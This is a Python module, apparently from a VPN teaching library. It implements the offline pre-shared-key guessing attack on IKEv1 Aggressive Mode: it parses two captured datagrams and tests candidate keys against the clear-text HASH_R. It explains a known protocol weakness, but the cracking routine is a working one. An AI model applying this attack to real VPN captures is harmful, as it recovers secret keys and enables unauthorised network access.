"""Why Aggressive Mode with a pre-shared key is weak: the offline key-guessing attack.

RFC 2409 §5.4 sends, in clear, everything ``HASH_R`` is computed from except the key::

    SKEYID = prf(pre-shared-key, Ni_b | Nr_b)                          (RFC 2409 §5)
    HASH_R = prf(SKEYID, g^xr | g^xi | CKY-R | CKY-I | SAi_b | IDir_b)

AM1 carries CKY-I, SAi_b, g^xi (KE) and Ni_b; AM2 carries CKY-R, g^xr, Nr_b, IDir_b and
HASH_R itself. A passive observer who captured the two datagrams recomputes ``HASH_R`` for
each candidate key until one matches: no further packet, no router ever sees a wrong guess
(no lockout, no log line). Main Mode does not give this away: its HASH_R travels encrypted
under keys that need ``g^xy``, which an eavesdropper cannot compute.

:func:`offline_psk_guess` is that attack, built from the engine's own primitives
(:mod:`vpnteach.ike.keymat`, :mod:`vpnteach.wire`).
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass

from vpnteach._html import HtmlRepr
from vpnteach.crypto.prf import HashAlgorithm, get_hash
from vpnteach.ike import keymat
from vpnteach.ike.context import payload_body
from vpnteach.ike.proposal import IkeSuite
from vpnteach.trace import NULL_TRACE, Trace
from vpnteach.wire.constants import AuthenticationMethod, ExchangeType
from vpnteach.wire.errors import DecodeError
from vpnteach.wire.message import Message, decode_message
from vpnteach.wire.natt import strip_non_esp_marker
from vpnteach.wire.payloads import HashPayload, IdPayload, KePayload, NoncePayload
from vpnteach.wire.sa import SaPayload


class CaptureError(ValueError):
    """The captured bytes are not a clear-text AM1/AM2 pair with a pre-shared key."""


@dataclass(frozen=True)
class AmCapture(HtmlRepr):
    """The HASH_R inputs an eavesdropper reads from AM1 and AM2 (all sent in clear)."""

    hash: HashAlgorithm
    cky_i: bytes
    cky_r: bytes
    sai_b: bytes
    g_xi: bytes
    g_xr: bytes
    ni_b: bytes
    nr_b: bytes
    idir_b: bytes
    hash_r: bytes

    def hash_r_for(self, psk: bytes, trace: Trace = NULL_TRACE) -> bytes:
        """HASH_R as the responder would have computed it with key ``psk``."""
        skeyid = keymat.skeyid_psk(self.hash, psk, self.ni_b, self.nr_b, trace)
        args = (self.g_xi, self.g_xr, self.cky_i, self.cky_r, self.sai_b, self.idir_b)
        return keymat.hash_r(self.hash, skeyid, *args, trace=trace)


def _message(data: bytes, which: str) -> Message:
    if data[:4] == bytes(4):  # a datagram captured on UDP 4500 (RFC 3948 non-ESP marker)
        data = strip_non_esp_marker(data)[1]
    try:
        msg = decode_message(data)
    except DecodeError as exc:
        raise CaptureError(f"{which}: not an ISAKMP message: {exc}") from None
    if msg.header.exchange_type != ExchangeType.AGGRESSIVE or msg.header.encrypted:
        raise CaptureError(f"{which}: not a clear-text Aggressive Mode message (RFC 2409 §5.4)")
    return msg


def _one(msg: Message, kind: type, which: str) -> object:
    found = [p for p in msg.payloads if isinstance(p, kind)]
    if len(found) != 1:
        raise CaptureError(f"{which}: needs exactly one {kind.__name__}, found {len(found)}")
    return found[0]


def read_capture(am1: bytes, am2: bytes) -> AmCapture:
    """Pull the HASH_R inputs out of two captured datagrams (``CaptureError`` if unsuitable)."""
    m1, m2 = _message(am1, "AM1"), _message(am2, "AM2")
    if m1.header.cky_i != m2.header.cky_i:
        raise CaptureError("AM1 and AM2 belong to different exchanges (CKY-I differs)")
    sa_i, sa_r = _one(m1, SaPayload, "AM1"), _one(m2, SaPayload, "AM2")
    ke_i, ke_r = _one(m1, KePayload, "AM1"), _one(m2, KePayload, "AM2")
    n_i, n_r = _one(m1, NoncePayload, "AM1"), _one(m2, NoncePayload, "AM2")
    id_r, h_r = _one(m2, IdPayload, "AM2"), _one(m2, HashPayload, "AM2")
    assert isinstance(sa_i, SaPayload) and isinstance(sa_r, SaPayload)
    assert isinstance(ke_i, KePayload) and isinstance(ke_r, KePayload)
    assert isinstance(n_i, NoncePayload) and isinstance(n_r, NoncePayload)
    assert isinstance(id_r, IdPayload) and isinstance(h_r, HashPayload)
    try:
        suite = IkeSuite.from_attributes(sa_r.proposals[0].transforms[0].attributes)
    except (IndexError, KeyError):
        raise CaptureError("AM2: the SA payload has no complete transform") from None
    if suite.authentication != AuthenticationMethod.PRE_SHARED_KEY:
        raise CaptureError("AM2: the chosen transform does not authenticate with a key")
    return AmCapture(
        get_hash(suite.hash),
        m1.header.cky_i,
        m2.header.cky_r,
        payload_body(sa_i),
        ke_i.key_exchange_data,
        ke_r.key_exchange_data,
        n_i.nonce_data,
        n_r.nonce_data,
        payload_body(id_r),
        h_r.hash_data,
    )


def offline_psk_guess(
    am1: bytes, am2: bytes, candidates: Iterable[str], trace: Trace = NULL_TRACE
) -> str | None:
    """The candidate that is the pre-shared key of the captured exchange, or ``None``.

    ``am1``/``am2`` are the two UDP payloads as captured (clear text, RFC 2409 §5.4); each
    candidate is tried by recomputing HASH_R, nothing is sent anywhere. The fact recorded in
    ``trace`` names the key found and how many guesses it took.
    """
    capture = read_capture(am1, am2)
    for tried, word in enumerate(candidates, start=1):
        if word and capture.hash_r_for(word.encode()) == capture.hash_r:
            trace.derived(
                "pre-shared key (guessed offline)",
                "the candidate w with prf(prf(w, Ni_b | Nr_b), g^xr | g^xi | CKY-R | CKY-I |"
                " SAi_b | IDir_b) = HASH_R, from AM1/AM2 alone",
                word,
                rfc="RFC 2409 §5.4",
                guesses=tried,
                hash_r=capture.hash_r,
            )
            return word
    return None
